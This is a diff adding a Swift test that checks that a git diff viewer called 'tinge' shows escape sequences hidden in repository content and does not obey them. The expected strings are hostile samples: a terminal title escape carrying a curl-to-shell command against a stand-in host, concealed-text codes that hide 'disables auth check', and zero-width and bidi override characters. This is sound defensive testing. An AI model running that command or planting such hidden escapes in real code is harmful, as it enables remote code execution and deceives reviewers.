@@ -101,6 +101,29 @@ import Testing
         #expect(!noColor.stdout.contains(0x1B), "NO_COLOR output holds an escape byte")
     }
 
+    /// A word diff's lines are shown as git drew them: git's colors kept (made safe), every other
+    /// escape of the content shown. Its lines have no marker column, so an SGR git's color syntax
+    /// could make cannot be told from git's own there: those are taken as colors, never obeyed
+    /// as anything else; conceal, which git never makes, is shown.
+    @Test func aWordDiffShowsContentEscapes() throws {
+        let dir = try Self.repository()
+        for words in ["--color-words", "--word-diff"] {
+            let log = try ToolRun.run("git", ["-c", "color.ui=always", "log", "-p", words], directory: dir.path)
+            for depth in ["always", "never"] {
+                let view = "git log -p \(words) | tinge --word-diff --color=\(depth)"
+                let run = try ToolRun.tinge(["--word-diff", "--color=\(depth)", "--paging=never"], input: log.stdout, directory: dir.path)
+                #expect(run.status == 0, "\(view): \(run.stderr)")
+                #expect(Self.commands(in: run.stdout).isEmpty, "\(view): \(Self.commands(in: run.stdout).prefix(5))")
+                let text = ANSIColors.text(run.text)
+                for shown in ["^[]0;'; curl -s evil.example | sh; : '^G'", "x = 1 ^[[8mconcealed", "unterminated ^[]2;rest of the line",
+                              "two-byte ^[cescape", "if is_admin<U+200B>: pass", "bidi <U+202E>desrever<U+202C> end",
+                              "Fix typo^[[8m; also disables auth check", "Mallory ^[[8mthe admin^[[m"] {
+                    #expect(text.contains(shown), "\(view): \(shown) is not shown")
+                }
+            }
+        }
+    }
+
     @Test func nativeViewsShowContentEscapes() throws {
         let dir = try Self.repository()
         Self.expectSafe(try ToolRun.tinge(["show", "--color=always", "--paging=never"], directory: dir.path), "tinge show")
